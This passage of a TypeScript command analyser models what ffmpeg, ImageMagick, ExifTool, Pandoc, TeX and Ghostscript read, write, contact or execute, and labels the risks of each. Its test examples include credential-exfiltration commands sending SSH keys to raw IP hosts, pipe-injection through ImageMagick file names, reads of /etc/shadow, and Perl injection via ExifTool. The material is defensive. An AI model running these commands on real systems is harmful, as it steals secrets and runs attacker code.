        cmd: 'ffmpeg -f concat -i list.txt -c copy out.mp4',
        reads: ['list.txt'],
        writes: ['out.mp4'],
        only: true,
      },
      { cmd: 'ffmpeg -f concat -safe 0 -i list.txt -c copy out.mp4', unknown: 'concat list' },
      { cmd: 'ffmpeg -i file:in.mp4 file:out.mkv', reads: ['in.mp4'], writes: ['out.mkv'], only: true },
      {
        cmd: 'ffmpeg -i https://cdn.example.com/v.m3u8 -c copy v.mp4',
        hosts: ['cdn.example.com'],
        writes: ['v.mp4'],
        only: true,
      },
      {
        cmd: 'ffmpeg -re -i talk.mp4 -c copy -f flv rtmp://live.example.com/app/key',
        hosts: ['live.example.com'],
        risks: ['exfiltration'],
      },
      {
        cmd: 'ffmpeg -i /h/.ssh/id_rsa -f data udp://203.0.113.9:9000',
        reads: ['~/.ssh/id_rsa'],
        risks: ['exfiltration'],
      },
      {
        cmd: 'ffmpeg -i in.mp4 -vf subtitles=subs.srt out.mp4',
        reads: ['in.mp4', 'subs.srt'],
        writes: ['out.mp4'],
        only: true,
      },
      { cmd: "ffmpeg -f lavfi -i 'movie=/etc/passwd' out.mp4", reads: ['/etc/passwd'] },
      {
        cmd: "ffmpeg -i in.mp4 -filter_complex '[0:v]drawtext=fontfile=font.ttf:textfile=/h/.aws/credentials[v]' -map '[v]' out.mp4",
        reads: ['~/.aws/credentials', 'font.ttf'],
      },
      {
        cmd: 'ffmpeg -i in.mp4 -vf "movie=$F [wm]; [in][wm] overlay" out.mp4',
        unknown: 'only known when the command runs',
      },
      { cmd: 'ffmpeg -i in.mp4 -vf "$VF" out.mp4', unknown: 'filter graph' },
      { cmd: "ffmpeg -i in.wav -af 'ladspa=file=/tmp/x.so:plugin=p' out.wav", unknown: 'LADSPA' },
      {
        cmd: 'ffmpeg -i in.mp4 -filter_script:v graph.txt out.mp4',
        reads: ['graph.txt'],
        writes: ['out.mp4'],
        only: true,
      },
      { cmd: 'ffmpeg -f x11grab -i :0.0 screen.mp4', unknown: 'records the screen' },
      { cmd: 'ffmpeg -f v4l2 -i /dev/video0 cam.mp4', reads: ['/dev/video0'], writes: ['cam.mp4'] },
      {
        cmd: 'ffmpeg -f vapoursynth -i script.vpy out.mkv',
        executes: ['script.vpy'],
        unknown: 'VapourSynth',
      },
      {
        cmd: "ffmpeg -i in.mp4 -f tee -map 0 '[f=mpegts]udp://198.51.100.1:1234|local.mkv'",
        hosts: ['198.51.100.1'],
        writes: ['local.mkv'],
        risks: ['exfiltration'],
      },
      { cmd: 'ffmpeg -i in.mp4 $OPTS out.mp4', unknown: 'only known when the command runs' },
      { cmd: 'ffmpeg -i in.mp4 -f null -', reads: ['in.mp4'], only: true },
      {
        cmd: 'ffmpeg -i in.mp4 -c:v libx264 -x264-params stats=/tmp/x.log:qpfile=q.txt out.mp4',
        writes: ['/tmp/x.log'],
        reads: ['q.txt'],
      },
      {
        cmd: 'ffmpeg -i in.mp4 -f mp4 file:///tmp/o.mp4',
        writes: ['/tmp/o.mp4'],
        reads: ['in.mp4'],
        only: true,
      },
      { cmd: 'ffmpeg -i in.mp4 -listen 1 -f mp4 http://0.0.0.0:8080', unknown: 'serves its output' },
      { cmd: 'ffmpeg -hide_banner -h encoder=libx264', only: true },
      {
        cmd: 'ffmpeg -dump_attachment:t:0 font.ttf -i in.mkv -f null -',
        reads: ['in.mkv'],
        writes: ['font.ttf'],
        only: true,
      },
    ],
  },
  {
    names: ['ffprobe', 'avprobe'],
    summary: 'describe audio and video files and streams',
    operands: ['value...'],
    rewrite: OWN,
    custom: ffmpegLike,
    examples: [
      {
        cmd: 'ffprobe -v error -show_entries format=duration -of csv=p=0 in.mp4',
        reads: ['in.mp4'],
        only: true,
      },
      {
        cmd: 'ffprobe -hide_banner -show_streams -select_streams v:0 -print_format json -i in.mkv',
        reads: ['in.mkv'],
        only: true,
      },
      { cmd: 'ffprobe https://example.com/live.m3u8', hosts: ['example.com'], only: true },
      { cmd: 'ffprobe -o report.json -of json -show_format in.mp4', writes: ['report.json'], only: true },
      { cmd: "ffprobe -f lavfi 'amovie=/h/.netrc'", reads: ['~/.netrc'] },
    ],
  },
  {
    names: ['ffplay'],
    summary: 'play audio and video in a window',
    operands: ['value...'],
    rewrite: OWN,
    custom: ffmpegLike,
    examples: [
      { cmd: 'ffplay -autoexit -x 640 -y 480 -loglevel quiet clip.mp4', reads: ['clip.mp4'], only: true },
      { cmd: 'ffplay rtsp://camera.local/stream', hosts: ['camera.local'], only: true },
    ],
  },
  {
    names: [
      'convert',
      'magick',
      'mogrify',
      'identify',
      'compare',
      'composite',
      'montage',
      'animate',
      'display',
      'stream',
      'conjure',
      'import',
      'magick-script',
    ],
    summary: 'ImageMagick: read, transform and write images',
    operands: ['value...'],
    rewrite: OWN,
    custom(call) {
      if (call.program === 'magick-script') {
        const script = own(call)[0];
        if (script) call.ctx.apply('read', script);
        call.ctx.unknown('`magick-script` runs a script of ImageMagick commands from a file');
        return;
      }
      imCommand(call, call.program, own(call));
    },
    examples: [
      {
        cmd: 'convert in.png -resize 50% -quality 85 out.jpg',
        reads: ['in.png'],
        writes: ['out.jpg'],
        only: true,
      },
      {
        cmd: 'magick in.png -strip -colorspace Gray -annotate +10+10 Hello -set comment hi out.png',
        reads: ['in.png'],
        writes: ['out.png'],
        only: true,
      },
      {
        cmd: 'magick -size 100x100 xc:white -fill red -draw "circle 50,50 20,20" dot.png',
        writes: ['dot.png'],
        only: true,
      },
      {
        cmd: 'convert a.png b.png +append -write mpr:x -write both.png c.gif',
        reads: ['a.png', 'b.png'],
        writes: ['both.png', 'c.gif'],
        only: true,
      },
      { cmd: 'mogrify -resize 800x *.jpg', writes: ['*.jpg'], only: true },
      {
        cmd: 'mogrify -path thumbs -thumbnail 100x100 *.jpg',
        reads: ['*.jpg'],
        writes: ['thumbs/*'],
        only: true,
      },
      { cmd: 'mogrify -format webp photo.jpg', reads: ['photo.jpg'], writes: ['photo.webp'], only: true },
      { cmd: 'identify -format "%w x %h" photo.jpg', reads: ['photo.jpg'], only: true },
      {
        cmd: 'compare -metric AE a.png b.png diff.png',
        reads: ['a.png', 'b.png'],
        writes: ['diff.png'],
        only: true,
      },
      {
        cmd: 'composite -gravity center logo.png bg.png out.png',
        reads: ['logo.png', 'bg.png'],
        writes: ['out.png'],
        only: true,
      },
      { cmd: 'montage -tile 3x -geometry +2+2 -shadow *.png sheet.png', writes: ['sheet.png'], only: true },
      { cmd: 'display photo.jpg', reads: ['photo.jpg'], only: true },
      { cmd: "convert '|cat /h/.ssh/id_rsa' out.png", runs: ['cat'], reads: ['~/.ssh/id_rsa'] },
      { cmd: "convert in.png '|curl -T - http://203.0.113.5/'", runs: ['curl'], risks: ['exfiltration'] },
      { cmd: 'convert msl:evil.msl out.png', unknown: 'Magick Scripting Language' },
      { cmd: 'convert ephemeral:/h/.bashrc out.png', deletes: ['~/.bashrc'] },
      { cmd: 'convert text:/etc/shadow leak.png', reads: ['/etc/shadow'], writes: ['leak.png'] },
      { cmd: 'convert label:@/h/.aws/credentials out.png', reads: ['~/.aws/credentials'] },
      { cmd: 'convert @files.txt out.pdf', reads: ['files.txt'], writes: ['out.pdf'] },
      { cmd: 'convert in.png -write /h/.ssh/authorized_keys out.png', writes: ['~/.ssh/authorized_keys'] },
      { cmd: 'magick -script cmds.txt', unknown: '-script' },
      {
        cmd: 'convert in.png -draw "image over 0,0 0,0 \'/h/.ssh/id_ed25519\'" out.png',
        reads: ['~/.ssh/id_ed25519'],
      },
      { cmd: 'convert https://example.com/a.png a.jpg', hosts: ['example.com'], writes: ['a.jpg'] },
      { cmd: 'import -window root shot.png', writes: ['shot.png'], unknown: 'records the screen' },
      { cmd: 'convert x:root shot.png', unknown: 'records the screen' },
      { cmd: 'conjure script.msl', unknown: 'Magick Scripting Language' },
      { cmd: 'magick convert in.png -flip out.png', reads: ['in.png'], writes: ['out.png'], only: true },
      { cmd: 'convert in.png $ARGS out.png', unknown: 'only known when the command runs' },
      {
        cmd: "convert *.jpg -set filename:f '%[exif:ImageDescription]' '%[filename:f].png'",
        unknown: 'named from image properties',
      },
    ],
  },
  {
    names: ['gm'],
    summary: 'GraphicsMagick: read, transform and write images',
    operands: ['value...'],
    rewrite: OWN,
    custom: (call) => imCommand(call, 'gm', own(call)),
    examples: [
      { cmd: 'gm convert in.png -resize 50% out.jpg', reads: ['in.png'], writes: ['out.jpg'], only: true },
      { cmd: 'gm identify -verbose photo.jpg', reads: ['photo.jpg'], only: true },
      { cmd: 'gm mogrify -rotate 90 a.jpg', writes: ['a.jpg'], only: true },
      { cmd: 'gm batch cmds.gm', reads: ['cmds.gm'], unknown: 'gm batch' },
      { cmd: 'gm benchmark -iterations 5 convert in.png "|sh -c id" ', runs: ['id'] },
    ],
  },
]);

// ---------------------------------------------------------------------------------------------
// ExifTool and Exiv2: metadata readers that rewrite files when tags are assigned.

/** ExifTool options that take a value (by lower-case name; one-letter options keep their case). */
const EXIF_VALUE = new Set(
  (
    '@ c d i o p w W x api config coordformat csvdelim dateformat diff echo efile ext extension fileorder geotag geosync ' +
    'geotime globaltimeshift ignore if listitem out password printformat sep separator srcfile tagsfromfile textout ' +
    'tagout userparam exclude stay_open use'
  ).split(' '),
);

/** What an ExifTool argument is: an option by name, `assign` (`-TAG=…`, `-TAG<…`), `import` (`-csv=F`). */
function exifKey(text: string): string | undefined {
  if (!text.startsWith('-') || text === '-') return undefined;
  const raw = text.slice(1);
  if (raw.startsWith('-')) return '--tag';
  if (/^(csv|j|json)\+?=/i.test(raw)) return 'import';
  if (/[=<]/.test(raw)) return 'assign';
  const single = /^([a-zA-Z@])[\d:+!-]*$/.exec(raw);
  if (single) return single[1]!;
  return raw
    .toLowerCase()
    .replace(/:.*$/s, '')
    .replace(/[\d+!-]+$/, '');
}

/** ExifTool's advanced formatting `${TAG;EXPR}` runs EXPR as Perl. */
function exifPerl(call: Call, v: Field): void {
  if (!v.known) return;
  for (const m of v.text.matchAll(/\$\{[^};]*;([^}]*)\}/g))
    if (m[1]!.trim() !== '') call.ctx.code('perl', m[1]!);
}

/** `%d%f.xmp`-style file names: the files they can name. */
const exifPattern = (text: string): string => text.replace(/%[-+]?\d*(?:\.\d+)?[dfecDFEC]/g, '*');

function exifChunk(call: Call, args: Field[]): void {
  const { ctx } = call;
  const files: Field[] = [];
  const textOut: Field[] = [];
  let writes = false;
  let out: Field | undefined;
  let overwrite = false;
  let recursive = false;
  let deleteOriginal = false;
  let restore = false;
  let moved = false;
  const movesTo: Array<{ value: Field; into: boolean }> = [];
  walk(
    call,
    args,
    (text) => {
      const key = exifKey(text);
      if (key === undefined) return undefined;
      if (key === 'lang' || key === 'charset') return -1;
      return EXIF_VALUE.has(key) ? 1 : 0;
    },
    (name, [v], field) => {
      const key = exifKey(name)!;
      exifPerl(call, field);
      if (v) exifPerl(call, v);
      switch (key) {
        case 'import': {
          writes = true;
          const file = name.slice(name.indexOf('=') + 1);
          if (file !== '' && file !== '-') ctx.apply('read', f(field, file));
          return;
        }
        case 'assign': {
          const m = /^-([^=<]*?)([+\-^]?=|<=|<)(.*)$/s.exec(name);
          if (!m) return;
          const tag = m[1]!.replace(/#$/, '').replace(/^.*:/, '').toLowerCase();
          const [op, value] = [m[2]!, m[3]!];
          if (op === '<=' && value !== '') ctx.apply('read', f(field, exifPattern(value)));
          if (tag === 'filename' || tag === 'directory') {
            moved = true;
            if (op === '=' && !/[%$]/.test(value) && value !== '')
              movesTo.push({ value: f(field, value), into: tag === 'directory' });
            else if (op !== '=' || /[%$]/.test(value))
              ctx.unknown(
                `\`${call.program}\` moves files to names made from their metadata (\`-${m[1]}${op}\`)`,
              );
          } else if (tag === 'hardlink' || tag === 'symlink') {
            if (op === '=' && value !== '') ctx.apply('write', f(field, value));
          } else if (tag !== 'testname') writes = true;
          return;
        }
        case '@':
          if (v) {
            if (v.text !== '-') ctx.apply('read', v);
            ctx.unknown(`\`${call.program}\` reads more arguments from \`${v.text}\` (\`-@\`)`);
          }
          return;
        case 'config':
          if (v) ctx.apply('read', v);
          ctx.unknown(`\`${call.program}\` loads a configuration file, which is Perl code (\`-config\`)`);
          return;
        case 'o':
        case 'out':
          out = v;
          return;
        case 'w':
        case 'W':
        case 'textout':
        case 'tagout':
          if (v) textOut.push(v);
          return;
        case 'efile':
          if (v) ctx.apply('write', v);
          return;
        case 'diff':
        case 'srcfile':
          if (v) ctx.apply('read', f(v, exifPattern(v.text)));
          return;
        case 'geotag':
          writes = true;
          if (v) ctx.apply('read', v);
          return;
        case 'tagsfromfile':
          writes = true;
          if (v && v.text !== '@') ctx.apply('read', f(v, exifPattern(v.text)));
          return;
        case 'if':
          if (v) ctx.apply('code:perl', v);
          return;
        case 'p':
        case 'printformat':
          if (v?.known && !v.text.includes('$')) ctx.apply('read', v);
          return;
        case 'api': {
          const filter = v?.known ? /^filterw?=(.*)$/is.exec(v.text) : undefined;
          if (filter) ctx.code('perl', filter[1]!);
          return;
        }
        case 'overwrite_original':
        case 'overwrite_original_in_place':
          overwrite = true;
          return;
        case 'delete_original':
          deleteOriginal = true;
          return;
        case 'restore_original':
          restore = true;
          return;
        case 'r':
        case 'r.':
        case 'recurse':
          recursive = true;
          return;
      }
    },
    (file) => files.push(file),
  );
  const inputs = files.filter((file) => file.text !== '-');
  for (const file of inputs) ctx.apply(recursive ? 'read-tree' : 'read', file);
  const below = (file: Field, suffix: string) =>
    f(file, recursive ? `${file.text.replace(/\/$/, '')}/**/*${suffix}` : `${file.text}${suffix}`);
  if (out) {
    if (out.text === '-') return;
    if (out.text.endsWith('/')) ctx.apply('write-into', out);
    else if (out.text.includes('%')) ctx.apply('write', f(out, exifPattern(out.text)));
    else ctx.apply('write', out);
  } else if (writes || restore) {
    for (const file of inputs) {
      ctx.apply(recursive ? 'write-tree' : 'write', file);
      if (!overwrite && !restore) ctx.apply('write', below(file, '_original'));
    }
  }
  if (moved) {
    for (const file of inputs) ctx.apply('delete', file);
    for (const { value, into } of movesTo) ctx.apply(into ? 'write-into' : 'write', value);
  }
  if (deleteOriginal || restore) for (const file of inputs) ctx.apply('delete', below(file, '_original'));
  for (const fmt of textOut) {
    const prefix = fmt.text.split('%')[0]!;
    if (fmt.text.startsWith('%d') || !prefix.includes('/')) {
      for (const file of inputs)
        ctx.write(`${ctx.path(recursive ? file.text : dirname(file.text))}${recursive ? '/**' : '/*'}`);
    } else ctx.apply('write-into', f(fmt, prefix.slice(0, prefix.lastIndexOf('/')) || '/'));
  }
}

function exiftool(call: Call): void {
  const args = own(call);
  const common = args.findIndex((a) => a.known && /^-common_args$/i.test(a.text));
  const shared = common >= 0 ? args.slice(common + 1) : [];
  const chunks: Field[][] = [[]];
  for (const a of common >= 0 ? args.slice(0, common) : args) {
    if (a.known && /^-execute\d*$/i.test(a.text)) chunks.push([]);
    else chunks.at(-1)!.push(a);
  }
  for (const chunk of chunks) if (chunk.length > 0) exifChunk(call, [...chunk, ...shared]);
}

/** Exiv2 actions and what they do to the files. */
function exiv2(call: Call): void {
  const { ctx } = call;
  const [first, ...rest] = call.operands;
  const ACTIONS =
    /^(pr|print|ex|extract|in|insert|rm|delete|ad|adjust|mo|modify|mv|rename|fi|fixiso|fc|fixcom)$/;
  const action =
    first?.known && ACTIONS.test(first.text)
      ? first.text.slice(0, 2)
      : call.has('-M', '-m', '-c')
        ? 'mo'
        : 'pr';
  const files = first?.known && ACTIONS.test(first.text) ? rest : call.operands;
  const dir = call.values('-l')[0];
  for (const file of files) {
    ctx.apply('read', file);
    if (action === 'pr') continue;
    if (action === 'ex') {
      if (dir) ctx.apply('write-into', dir);
      else ctx.apply('write', f(file, `${stem(file.text)}*`));
    } else if (action === 'in') {
      ctx.apply('write', file);
      if (dir) ctx.apply('read-tree', dir);
      else ctx.apply('read', f(file, `${stem(file.text)}*`));
    } else if (action === 'mv') {
      ctx.apply('delete', file);
      ctx.apply('write-into', f(file, dirname(file.text)));
    } else ctx.apply('write', file);
  }
}

// ---------------------------------------------------------------------------------------------
// Pandoc.

function pandoc(call: Call): void {
  const { ctx } = call;
  for (const input of call.operands) {
    if (input.known && URL_SHAPE.test(input.text)) ctx.contact(input);
    else ctx.apply('read', input);
  }
  for (const file of call.values('-L', '--lua-filter')) ctx.runsFile(file, 'code:lua');
  // A custom reader or writer (`-t writer.lua`) is Lua code.
  for (const format of call.values('-f', '-r', '--from', '--read', '-t', '-w', '--to', '--write')) {
    if (format.known && /\.lua(?:[+-].*)?$/.test(format.text)) {
      const file = f(format, format.text.replace(/(\.lua)[+-].*$/, '$1'));
      ctx.runsFile(file, 'code:lua');
      ctx.unknown(`\`${call.program}\` runs a custom Lua reader or writer (\`${format.text}\`)`);
    }
  }
  for (const source of call.values(
    '--csl',
    '--bibliography',
    '--citation-abbreviations',
    '--template',
    '--reference-doc',
  )) {
    if (source.known && URL_SHAPE.test(source.text)) ctx.contact(source);
    else ctx.apply('read', source);
  }
  for (const style of call.values('--highlight-style', '--syntax-highlighting'))
    if (style.known && /[./]/.test(style.text)) ctx.apply('read', style);
  for (const opt of call.values('--pdf-engine-opt'))
    if (!opt.known || /^-{1,2}(shell-escape|enable-write18)$|^-{1,2}cnf-line/.test(opt.text))
      ctx.unknown(
        `\`${call.program}\` passes \`${opt.text}\` to the PDF engine, which lets the document run shell commands`,
      );
}

// ---------------------------------------------------------------------------------------------
// TeX and friends.

/** Spell a TeX-style option both ways: `-name|--name`. */
const both = (...names: string[]): string => names.flatMap((n) => [`-${n}`, `--${n}`]).join('|');

const SHELL_ESCAPE = 'lets the document run shell commands (shell escape)';

/** TeX code given on the command line instead of a file name. */
const INLINE_TEX = /^\\|\\write18|\\immediate|\\input\s*\|/;

const TEX_OPTIONS: Record<string, OptionEntry> = {
  [both(
    'interaction',
    'jobname',
    'output-format',
    'fmt',
    'progname',
    'kpathsea-debug',
    'mktex',
    'no-mktex',
    'translate-file',
    'synctex',
    'output-comment',
    'papersize',
    'debug-format',
    'src-specials',
    'file-line-error-style',
    'enc',
    'tcx',
    'alias',
    'job-time',
    'undump',
    'c-style-errors',
  )]: 'value',
  [both('output-directory', 'aux-directory')]: 'write-into',
  [both('include-directory')]: 'read-tree',
  [both('shell-escape', 'enable-write18')]: { unknown: SHELL_ESCAPE },
  [both('shell-escape-commands')]: { takes: 'value', unknown: SHELL_ESCAPE },
  [both('cnf-line')]: 'value',
  [both('lua')]: { takes: 'read', unknown: 'runs a Lua initialisation script (`--lua`)' },
  [both('luaonly', 'luaconly')]: { unknown: 'runs a Lua script as a Lua interpreter (`--luaonly`)' },
  [both('output-driver')]: 'command',
  [both('socket')]: { network: true },
  [both(
    'ini',
    'etex',
    'draftmode',
    'halt-on-error',
    'file-line-error',
    'no-file-line-error',
    '8bit',
    'parse-first-line',
    'no-parse-first-line',
    'no-shell-escape',
    'disable-write18',
    'shell-restricted',
    'nosocket',
    'safer',
    'recorder',
    'no-pdf',
    'mltex',
    'ipc',
    'ipc-start',
    'version',
    'help',
    'credits',
    'utc',
    'nosocket',
    'quiet',
    'silent',
    'nonstopmode',
    'batchmode',
    'scrollmode',
    'enable-etex',
    'enable-installer',
    'disable-installer',
    'time-statistics',
  )]: 'flag',
};

function tex(call: Call): void {
  const { ctx } = call;
  for (const line of call.values('-cnf-line', '--cnf-line'))
    if (
      !line.known ||
      /^\s*shell_escape\w*\s*=\s*[^fp0\s]/i.test(line.text) ||
      /^\s*shell_escape_commands/i.test(line.text)
    )
      ctx.unknown(`\`${call.program}\` \`--cnf-line=${line.text}\` ${SHELL_ESCAPE}`);
  let first = true;
  for (const operand of call.operands) {
    if (!operand.known) {
      ctx.apply('read', operand);
      continue;
    }
    const text = operand.text;
    if (first && text.startsWith('&')) continue;
    if (INLINE_TEX.test(text) || (!first && text.startsWith('\\'))) {
      ctx.unknown(`\`${call.program}\` runs TeX code given on the command line (\`${text.slice(0, 40)}\`)`);
      first = false;
      continue;
    }
    first = false;
    ctx.apply('read', operand);
    if (!/\.[A-Za-z0-9]+$/.test(text)) ctx.apply('read', f(operand, `${text}.tex`));
  }
  if (
    !call.has('-output-directory', '--output-directory', '-aux-directory', '--aux-directory') &&
    call.operands.length > 0
  )
    ctx.write(`${ctx.path('.')}/*`);
}

function latexmk(call: Call): void {
  const { ctx } = call;
  if (!call.has('-norc', '--norc')) ctx.executes('latexmkrc (Perl) in the project and home folders');
  for (const code of call.values('-e', '--e'))
    if (
      !code.known ||
      /\$\w*(latex|tex|bibtex|biber|makeindex|dvips|dvipdf|ps2pdf|previewer|cmd|lpr|command)\s*=|add_cus_dep|system|exec/.test(
        code.text,
      )
    )
      ctx.unknown(`\`${call.program} -e\` sets a command that latexmk runs`);
  for (const code of call.values('-usepretex', '--usepretex', '-pretex', '--pretex'))
    ctx.unknown(
      `\`${call.program}\` runs TeX code given on the command line (\`${code.text.slice(0, 40)}\`)`,
    );
  const outdir = call.values(
    '-outdir',
    '--outdir',
    '-output-directory',
    '--output-directory',
    '-auxdir',
    '--auxdir',
    '-aux-directory',
    '--aux-directory',
  )[0];
  const into = outdir?.known ? ctx.path(outdir.text) : outdir ? undefined : ctx.path('.');
  for (const file of call.operands) {
    ctx.apply('read', file);
    if (file.known && !/\.[A-Za-z0-9]+$/.test(file.text)) ctx.apply('read', f(file, `${file.text}.tex`));
  }
  if (call.operands.length === 0) ctx.read(`${ctx.path('.')}/*.tex`);
  if (call.has('-c', '--c', '-C', '--C', '-CA', '--CA', '-c1')) {
    // Clean-up: the files generated from each document, named after it.
    const stems = call.operands.filter((o) => o.known).map((o) => stem(o.text.replace(/^.*\//, '')));
    if (into === undefined)
      ctx.unknown(`\`${call.program}\` deletes generated files in a folder only known when the command runs`);
    else if (stems.length === 0) ctx.remove(`${into}/*`);
    else for (const s of stems) ctx.remove(`${into}/${s}.*`);
    return;
  }
  if (into !== undefined) ctx.write(`${into}/*`);
}

/** bibtex, biber, makeindex: `base` reads `base.EXT` and writes the files named after it. */
function texHelper(readExt: string, writeExts: string[], outdirOptions: string[] = []) {
  return (call: Call): void => {
    const { ctx } = call;
    const outdir = call.values(...outdirOptions)[0];
    for (const file of call.operands) {
      if (!file.known) {
        ctx.apply('read', file);
        continue;
      }
      const base = file.text.endsWith(readExt) ? file.text.slice(0, -readExt.length) : file.text;
      ctx.apply('read', f(file, `${base}${readExt}`));
      const name = outdir ? `${outdir.text.replace(/\/$/, '')}/${base.replace(/^.*\//, '')}` : base;
      for (const ext of writeExts) ctx.apply('write', f(outdir ?? file, `${name}${ext}`));
    }
  };
}

// ---------------------------------------------------------------------------------------------
// Ghostscript.

/** Ghostscript's own argument syntax: `-dNAME[=v]`, `-sNAME=v`, `-o FILE`, `-f FILE`, `-c CODE…`, `@FILE`. */
function ghostscript(call: Call, args: Field[]): Field[] {
  const { ctx } = call;
  const operands: Field[] = [];
  const output = (v: Field) => {
    if (!v.known) return ctx.apply('write', v);
    const t = v.text;
    const pipe = /^(?:%pipe%|\|)(.*)$/s.exec(t);
    if (pipe) return ctx.runScript(pipe[1]!, `${call.program} (OutputFile)`);
    if (t === '-' || t === '%stdout' || t === '%stdout%' || /^%(printer|handle)%/.test(t)) return;
    ctx.apply('write', f(v, sequence(t)));
  };
  let code = false;
  let rest = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (!a.known) {
      if (!rest && (a.many || a.text.startsWith('-')))
        ctx.unknown(
          `\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs, where it can be an option that turns off its sandbox`,
        );
      operands.push(a);
      continue;
    }
    const t = a.text;
    if (rest) {
      operands.push(a);
      continue;
    }
    if (code && !t.startsWith('-')) continue;
    code = false;
    if (t === '--' || t === '-+') {
      rest = true;
      continue;
    }
    if (t.startsWith('@')) {
      ctx.apply('read', f(a, t.slice(1)));
      ctx.unknown(`\`${call.program}\` reads more arguments from \`${t.slice(1)}\``);
      continue;
    }
    if (t === '-' || t === '-_' || !t.startsWith('-')) {
      if (t !== '-' && t !== '-_') operands.push(a);
      continue;
    }
    const dm = /^-[dD](\w+)(?:[=#](.*))?$/s.exec(t);
    if (dm) {
      const [name, value] = [dm[1]!.toUpperCase(), dm[2]?.toLowerCase()];
      if (
        (name === 'NOSAFER' && value !== 'false' && value !== '0') ||
        name === 'DELAYSAFER' ||
        (name === 'SAFER' && (value === 'false' || value === '0')) ||
        name === 'WRITESYSTEMDICT'
      )
        ctx.unknown(`\`${call.program}\` runs PostScript without its file sandbox (\`${t}\`)`);
      continue;
    }
    const sm = /^-[sS](\w+)[=#](.*)$/s.exec(t);
    if (sm) {
      const name = sm[1]!;
      const value = f(a, sm[2]!);
      if (name === 'OutputFile') output(value);
      else if (name === 'stdout') output(value);
      else if (/^(FONTPATH|GenericResourceDir|ICCProfilesDir)$/.test(name)) ctx.apply('read-tree', value);
      else if (/Profile$|^(FONTMAP|PDFPassword)$/.test(name) && name !== 'PDFPassword')
        ctx.apply('read', value);
      continue;
    }
    const pm = /^--permit-file-(read|write|control|all)=(.*)$/s.exec(t);
    if (pm) {
      const where = f(a, pm[2]!.replace(/\*$/, ''));
      if (pm[1] === 'read') ctx.apply('read-tree', where);
      else ctx.apply('write-tree', where);
      continue;
    }
    if (t === '-o' || t === '-f' || t === '-I') {
      const v = args[++i];
      if (v) {
        if (t === '-o') output(v);
        else if (t === '-f') operands.push(v);
        else ctx.apply('read-tree', v);
      }
      continue;
    }
    if (t.startsWith('-o')) output(f(a, t.slice(2)));
    else if (t.startsWith('-f')) operands.push(f(a, t.slice(2)));
    else if (t.startsWith('-I')) for (const dir of t.slice(2).split(':')) ctx.apply('read-tree', f(a, dir));
    else if (t === '-c') code = true;
  }
  return operands;
}

/** ps2pdf and friends: Ghostscript options, then an input and an output (default: named after it). */
function gsScript(extension: string | undefined) {
  return (call: Call): void => {
    const { ctx } = call;
    const [input, output] = ghostscript(call, own(call));
    if (input && input.text !== '-') ctx.apply('read', input);
    if (output) {
      if (output.text !== '-') ctx.apply('write', output);
    } else if (input?.known && extension && input.text !== '-')
      ctx.apply('write', f(input, `${stem(input.text.replace(/^.*\//, ''))}${extension}`));
  };
}

const DOCUMENTS = definePrograms([
  {
    names: ['exiftool'],
    summary: 'read and write image, audio, video and PDF metadata',
    operands: ['value...'],
    rewrite: OWN,
    custom: exiftool,
    examples: [
      { cmd: 'exiftool photo.jpg', reads: ['photo.jpg'], only: true },
      { cmd: 'exiftool -s -G1 -DateTimeOriginal -json photos/', reads: ['photos'], only: true },
      { cmd: 'exiftool -r -ext jpg -csv photos', reads: ['photos/**'], only: true },
      { cmd: 'exiftool -Artist=Me photo.jpg', writes: ['photo.jpg', 'photo.jpg_original'], only: true },
      { cmd: 'exiftool -all= -overwrite_original photo.jpg', writes: ['photo.jpg'], only: true },
      {
        cmd: 'exiftool -o clean.jpg -all= photo.jpg',
        reads: ['photo.jpg'],
        writes: ['clean.jpg'],
        only: true,
      },
      { cmd: 'exiftool -delete_original! photos', deletes: ['photos_original'] },
      { cmd: 'exiftool -@ args.txt photo.jpg', reads: ['args.txt'], unknown: '-@' },
      { cmd: 'exiftool -config evil.config photo.jpg', unknown: 'Perl code' },
      { cmd: "exiftool -if '$Make eq \"Canon\"' -p '$FileName' dir", reads: ['dir'] },
      { cmd: 'exiftool -p \'${FileName;system("rm -rf /tmp/x")}\' a.jpg', executes: ['inline:perl'] },
      { cmd: "exiftool -api 'Filter=s/x/`id`/e' a.jpg", executes: ['inline:perl'] },
      { cmd: 'exiftool -W %d%f_%t%-c.%s -b -preview:all photo.jpg', writes: ['./*'] },
      {
        cmd: "exiftool '-Comment<=/h/.ssh/id_rsa' photo.jpg",
        reads: ['~/.ssh/id_rsa'],
        writes: ['photo.jpg'],
      },
      { cmd: "exiftool '-FileName<CreateDate' -d '%Y%m%d_%H%M%S%%-c.%%e' photos", unknown: 'moves files' },
      { cmd: 'exiftool -FileName=new.jpg old.jpg', deletes: ['old.jpg'], writes: ['new.jpg'] },
      {
        cmd: 'exiftool -Artist=A a.jpg -execute -Artist=B -overwrite_original b.jpg',
        writes: ['a.jpg', 'a.jpg_original', 'b.jpg'],
      },
      {
        cmd: 'exiftool -tagsFromFile src.jpg -overwrite_original dst.jpg',
        reads: ['src.jpg'],
        writes: ['dst.jpg'],
        only: true,
      },
    ],
  },
  {
    names: ['exiv2'],
    summary: 'read and edit Exif, IPTC and XMP metadata',
    options: {
      '-Q|-a|-Y|-O|-D|-r|-p|-P|-d|-i|-e|-c|-M|-n|-g|-K|-S|-l': 'value',
      '-m': 'read',
      '-h|-V|-v|-q|-b|-u|-k|-t|-T|-f|-F|--Force|--verbose|--help|--version': 'flag',
    },
    operands: ['value...'],
    custom: exiv2,
    examples: [
      { cmd: 'exiv2 -pa photo.jpg', reads: ['photo.jpg'], only: true },
      { cmd: 'exiv2 rm photo.jpg', writes: ['photo.jpg'], only: true },
      { cmd: 'exiv2 -M"set Exif.Image.Artist Me" mo photo.jpg', writes: ['photo.jpg'], only: true },
      { cmd: 'exiv2 -m cmds.txt photo.jpg', reads: ['cmds.txt'], writes: ['photo.jpg'], only: true },
      { cmd: 'exiv2 -r %Y%m%d mv photo.jpg', deletes: ['photo.jpg'] },
    ],
  },
  {
    names: ['pandoc'],
    summary: 'convert documents between markup formats',
    options: {
      '-o|--output': 'write',
      '-F|--filter': 'exec',
      '-L|--lua-filter': { takes: 'value', unknown: 'runs a Lua filter' },
      '-d|--defaults': {
        takes: 'read',
        unknown: 'reads options from a defaults file, which can name filters that run',
      },
      '--data-dir': {
        takes: 'read-tree',
        unknown: 'uses a data directory whose Lua initialisation and filters can run',
      },
      '-f|-r|--from|--read|-t|-w|--to|--write': 'value',
      '--csl|--bibliography|--citation-abbreviations|--template|--reference-doc|--highlight-style|--syntax-highlighting':
        'value',
